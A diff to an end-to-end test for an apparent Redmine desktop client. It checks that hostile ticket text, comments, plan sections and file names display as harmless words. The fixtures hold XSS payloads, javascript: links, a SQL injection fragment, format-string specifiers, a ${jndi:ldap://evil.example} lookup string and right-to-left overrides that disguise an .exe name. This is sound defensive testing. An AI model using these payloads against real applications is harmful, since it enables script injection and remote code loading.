@@ -40,11 +40,21 @@ test("ticket text is harmless and readable in the window, and that window cannot
       "Account \u202Enimda\u202C is renamed, zero\u200Bwidth.",
     ].join("\n\n"),
   };
+  // What others than its author add to it, and what has places of its own in the window.
+  const comment = [
+    "A comment: <script>window.owned = 10</script> <img src=x onerror=window.owned=11> \u202Etxet",
+    `<iframe src="${elsewhere}/comment"></iframe> !${elsewhere}/comment.png! "read on":javascript:window.owned=12`,
+    "{{include(secret)}} '; drop table changes; -- %s %n ${jndi:ldap://evil.example}",
+  ].join("\n\n");
+  const section = `Roll out by hand. <svg onload=window.owned=13> <a href="javascript:window.owned=14" onclick="window.owned=15">steps</a> !${elsewhere}/plan.png!`;
+  const file = { name: "<img src=x onerror=window.owned=16>\u202Efdp.exe", bytes: new TextEncoder().encode("MZ"), type: "text/html" };
   const line = "A very long description that somebody pasted from a log file.\n";
   const large = { subject: "A pasted log of five megabytes", description: line.repeat(Math.ceil((5 * 1024 * 1024) / line.length)) };
   const project = redmine.small;
   const tickets = [];
-  for (const one of [hostile, large]) tickets.push(await redmine.createChange({ ...one, project }));
+  const full = { ...hostile, fields: { "Plan: Approach": section }, file };
+  for (const one of [full, large]) tickets.push(await redmine.createChange({ ...one, project }));
+  await redmine.call("PUT", `/issues/${tickets[0]}.json`, { issue: { notes: comment } }, redmine.keys.alice);
   const accounts = await redmine.accounts();
   const desk = await Desk.open({ args: ["--data-dir", join(home, "board"), "--automated-test"], folder });
   const { page, driver } = desk;
@@ -91,11 +101,32 @@ test("ticket text is harmless and readable in the window, and that window cannot
       assert.match(text, /U\+202E/, "and each is named where it stood");
       await nothingHappened();
       await desk.picture("hostile-text");
-      for (const words of ["click me", "or me"]) {
-        const element = await driver.find(`//*[@id='content']//*[contains(text(), '${words}')]`);
-        if (element) await driver.click(element);
+      for (const words of ["click me", ">or me<"]) {
+        const element = await driver.find(`//*[@id='content']//*[text()[contains(., '${words}')]]`);
+        assert.ok(element, `“${words}” is on the screen, to be clicked on`);
+        await driver.click(element);
       }
       await nothingHappened();
+    });
+
+    await step("a file's name, a section of the plan and a comment are words as well, each on its page", async () => {
+      // The server puts `_` in place of what no file's name may hold there.
+      for (const { name, keys, at, wanted } of [
+        { name: "file", keys: ["1"], at: /tab=(%22)?overview/, wanted: ["img src=x onerror=window.owned=16", "fdp.exe"] },
+        { name: "section", keys: ["p"], at: /\/plan$/, wanted: ["Roll out by hand.", "<svg onload=window.owned=13>", "onclick="] },
+        { name: "comment", keys: ["u", "5"], at: /tab=(%22)?history/, wanted: ["A comment: <script>", "<iframe src=", "jndi:ldap"] },
+      ]) {
+        await page.press(...keys);
+        await page.at(at);
+        for (const words of wanted) await page.sees(words);
+        const text = await page.text();
+        assert.ok(!/[\u200B\u202A-\u202E\u2066-\u2069]/.test(text), `no invisible control of the ${name} reaches the screen`);
+        const element = await driver.find(`//*[@id='content']//*[text()[contains(., '${wanted[0]}')]]`);
+        assert.ok(element, `the ${name} is an element of its page`);
+        await driver.click(element);
+        await desk.picture(`hostile-${name}`);
+        await nothingHappened();
+      }
     });
 
     await step("a description of five megabytes opens, in part, and the window stays quick", async () => {
